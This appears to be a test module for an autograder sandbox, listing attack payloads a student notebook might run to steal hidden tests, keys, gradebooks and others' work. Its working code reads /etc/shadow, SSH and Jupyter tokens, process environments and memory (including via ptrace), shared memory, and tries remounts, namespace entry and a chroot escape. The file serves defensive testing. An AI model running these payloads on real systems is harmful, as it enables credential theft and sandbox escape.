"""Reading what a student must not see."""

from tests.attacks.attack import SEARCH, Attack, at_end, before

__all__ = ["ATTACKS"]

FAMILY = "reading"


def _searches(code: str) -> str:
    return SEARCH + code


_MEMORY = """\
def memory(process, writable_only=True, most=120_000_000):
    with open(f"/proc/{process}/maps") as maps, open(f"/proc/{process}/mem", "rb", 0) as mem:
        for line in maps:
            where, how = line.split()[:2]
            if not how.startswith("rw" if writable_only else "r"):
                continue
            first, last = (int(part, 16) for part in where.split("-"))
            try:
                while first < last and most > 0:
                    size = min(last - first, 8_000_000)
                    mem.seek(first)
                    tell(mem.read(size))
                    first += size
                    most -= size
            except (OSError, ValueError, OverflowError):
                continue
"""

ATTACKS = (
    Attack(
        "files-nearby",
        FAMILY,
        "looks for tests and keys in its folder and in all folders above",
        at_end(
            _searches("""\
walk(os.getcwd())
here = os.getcwd()
while here != "/":
    here = os.path.dirname(here)
    for path in glob.glob(os.path.join(here, "*")):
        look(path)
for pattern in ("*.ipynb", "*.db", "*.toml", "source/*/*", "../*", "../../*", "../../../*"):
    for path in glob.glob(pattern):
        look(path)
""")
        ),
        tame=True,
    ),
    Attack(
        "course-folder",
        FAMILY,
        "reads the course's folder, whose path it knows, and the checkout of the course",
        at_end(
            _searches("""\
walk("@course@")
for name in ("source", "tests", "build", "results", "submitted", "autograded", "release"):
    walk(os.path.join("@checkout@", name), 400)
for path in glob.glob("@checkout@/source/*/*.ipynb"):
    with open(path) as file:
        print(file.read())
""")
        ),
        tame=True,
    ),
    Attack(
        "gradebook",
        FAMILY,
        "opens the gradebook and reads the tests out of it",
        at_end(
            _searches("""\
import sqlite3
for path in ("@course@/gradebook.db", "../../../gradebook.db", "gradebook.db"):
    try:
        database = sqlite3.connect(f"file:{path}?mode=ro", uri=True)
        for table in ("source_cell", "kept", "comment", "student"):
            for row in database.execute(f"SELECT * FROM {table}"):
                tell(repr(row))
    except sqlite3.Error:
        pass
""")
        ),
        tame=True,
    ),
    Attack(
        "neighbours-work",
        FAMILY,
        "reads what others have handed in",
        at_end(
            _searches("""\
for top in ("@course@/submitted", "@course@/autograded", "@course@/feedback", "../..", "../../.."):
    walk(top)
""")
        ),
        tame=True,
    ),
    Attack(
        "environment",
        FAMILY,
        "reads its own environment and that of every process",
        at_end(
            _searches("""\
tell(repr(dict(os.environ)))
for path in glob.glob("/proc/[0-9]*/environ") + ["/proc/self/environ", "/proc/1/environ"]:
    look(path)
""")
        ),
        tame=True,
    ),
    Attack(
        "memory-of-processes",
        FAMILY,
        "reads the memory of every process that it can see, the warm one first",
        at_end(
            _searches(
                _MEMORY
                + """\
others = [int(name) for name in os.listdir("/proc") if name.isdigit()]
for process in [os.getppid(), 1, *others]:
    if process not in (0, os.getpid()):
        try:
            memory(process)
        except OSError:
            pass
"""
            )
        ),
    ),
    Attack(
        "its-own-memory",
        FAMILY,
        "searches its own memory for what the warm process has left in it",
        at_end(_searches(_MEMORY + 'memory("self")\n')),
    ),
    Attack(
        "objects-and-frames",
        FAMILY,
        "goes through all live objects and all callers for tests, keys and other work",
        at_end(
            _searches("""\
import gc, sys, inspect
for one in gc.get_objects():
    if isinstance(one, (str, bytes)):
        tell(one)
    elif isinstance(one, dict):
        for value in list(one.values()):
            if isinstance(value, (str, bytes)):
                tell(value)
for record in inspect.stack():
    tell(repr(record.frame.f_locals)[:200_000])
""")
        ),
    ),
    Attack(
        "tracing-the-answering",
        FAMILY,
        "follows every function that runs after its cell and prints what it holds",
        before(
            "gates-test",
            _searches("""\
import sys, threading
seen = []
def trace(frame, event, given):
    try:
        seen.append(repr(frame.f_locals)[:2000])
    except Exception:
        pass
    del seen[:-500]
    return trace
sys.settrace(trace)
threading.settrace(trace)
import atexit
def tells(*given):
    for one in list(seen):
        tell(one)
get_ipython().events.register("post_execute", tells)
"""),
        ),
    ),
    Attack(
        "command-lines-and-descriptors",
        FAMILY,
        "reads the command lines, folders and open files of every process",
        at_end(
            _searches("""\
for process in glob.glob("/proc/[0-9]*"):
    look(process + "/cmdline")
    for number in glob.glob(process + "/fd/*") + glob.glob(process + "/map_files/*"):
        if os.path.isfile(number):
            look(number)
    if process != f"/proc/{os.getpid()}":
        for name in ("keys.txt", "gradebook.db", "tmp/@token@", "root/.@token@"):
            look(f"{process}/root/{name}")
            look(f"{process}/cwd/{name}")
        look(process + "/root@course@/keys.txt")
for number in range(256):
    try:
        os.lseek(number, 0, 0)
        tell(os.read(number, 1_000_000))
    except OSError:
        pass
""")
        ),
    ),
    Attack(
        "ptrace-of-the-parent",
        FAMILY,
        "attaches to its parent as a debugger and reads its memory",
        at_end(
            _searches("""\
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
ATTACH, DETACH, SEIZE = 16, 17, 0x4206
class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
for process in {os.getppid(), 1} - {0, os.getpid()}:
    if libc.ptrace(SEIZE, process, 0, 0) == 0:
        print("attached")
    try:
        maps = open(f"/proc/{process}/maps").read().splitlines()
    except OSError:
        continue
    for line in maps:
        first, last = (int(part, 16) for part in line.split()[0].split("-"))
        size = min(last - first, 4_000_000)
        buffer = ctypes.create_string_buffer(size)
        mine, theirs = Vector(ctypes.addressof(buffer), size), Vector(first, size)
        if libc.process_vm_readv(process, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0) > 0:
            tell(buffer.raw)
""")
        ),
    ),
    Attack(
        "home-and-passwords",
        FAMILY,
        "reads the home folder, the passwords' file and the tokens of running servers",
        at_end(
            _searches("""\
for path in ("/etc/shadow", "/etc/gshadow", "/etc/sudoers"):
    try:
        with open(path) as file:
            print(path, file.read())
    except OSError:
        pass
for top in ("@home@/.ssh", "@home@/.local/share/jupyter/runtime", "@home@/.jupyter",
            "@home@/.config", "@home@/.cache"):
    walk(top, 300)
for path in glob.glob("@home@/.*") + glob.glob("@home@/*"):
    look(path)
""")
        ),
    ),
    Attack(
        "folders-for-all",
        FAMILY,
        "looks through the temporary folders for what others have left",
        at_end(
            _searches("""\
for top in ("/tmp", "/var/tmp", "/dev/shm", "/run", "/var/run", "/dev/mqueue", "/var/lock"):
    walk(top, 500)
walk(os.path.expanduser("~"), 300)
""")
        ),
    ),
    Attack(
        "shared-memory",
        FAMILY,
        "reads every segment of shared memory and every message queue",
        at_end(
            _searches("""\
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
with open("/proc/sysvipc/shm") as file:
    for line in file.read().splitlines()[1:]:
        number, size = int(line.split()[1]), int(line.split()[3])
        at = libc.shmat(number, None, 0o10000)
        if at not in (None, ctypes.c_void_p(-1).value):
            tell(ctypes.string_at(at, min(size, 1_000_000)))
walk("/dev/shm")
""")
        ),
    ),
    Attack(
        "mounts",
        FAMILY,
        "takes away what is mounted over the host's folders, or mounts them again",
        at_end(
            _searches("""\
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
BIND, REC, REMOUNT = 4096, 16384, 32
with open("/proc/self/mounts") as file:
    points = [line.split()[1] for line in file.read().splitlines()]
for point in reversed(points):
    if point not in ("/", "/proc"):
        libc.umount2(point.encode(), 2)
for path in ("@course@", "@home@", "/tmp", "/dev/shm", "/var/tmp"):
    look(path + "/keys.txt")
    walk(path, 200)
os.makedirs("/tmp/there", exist_ok=True)
for device in ("/dev/vda", "/dev/sda", "/dev/sda1", "/dev/nvme0n1p1", "/dev/root"):
    for kind in (b"ext4", b"xfs", b"btrfs"):
        if libc.mount(device.encode(), b"/tmp/there", kind, 1, None) == 0:
            look("/tmp/there@course@/keys.txt")
            print("@won@")
try:
    os.mknod("/tmp/disk", 0o60600, os.makedev(254, 0))
    with open("/tmp/disk", "rb") as disk:
        disk.read(4096)
    print("@won@")
except OSError:
    pass
""")
        ),
    ),
    Attack(
        "namespaces",
        FAMILY,
        "enters the namespaces of its parent and of process 1, and makes new ones",
        at_end(
            _searches("""\
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for process in (os.getppid(), 1):
    for kind in ("user", "mnt", "pid", "net", "ipc", "uts"):
        try:
            number = os.open(f"/proc/{process}/ns/{kind}", os.O_RDONLY)
            libc.setns(number, 0)
            os.close(number)
        except OSError:
            pass
    for path in ("@course@/keys.txt", f"/proc/{process}/root@course@/keys.txt"):
        look(path)
child = os.fork()
if child == 0:
    libc.unshare(0x10000000 | 0x00020000 | 0x20000000)
    os.makedirs("/tmp/root", exist_ok=True)
    libc.mount(b"none", b"/", None, 16384 | (1 << 18), None)
    libc.mount(b"/", b"/tmp/root", None, 4096 | 16384, None)
    libc.mount(b"proc", b"/tmp/root/proc", b"proc", 0, None)
    try:
        os.chroot("/tmp/root")
        for _ in range(20):
            os.chdir("..")
        os.chroot(".")
    except OSError:
        pass
    look("@course@/keys.txt")
    os._exit(0)
os.waitpid(child, 0)
""")
        ),
    ),
)
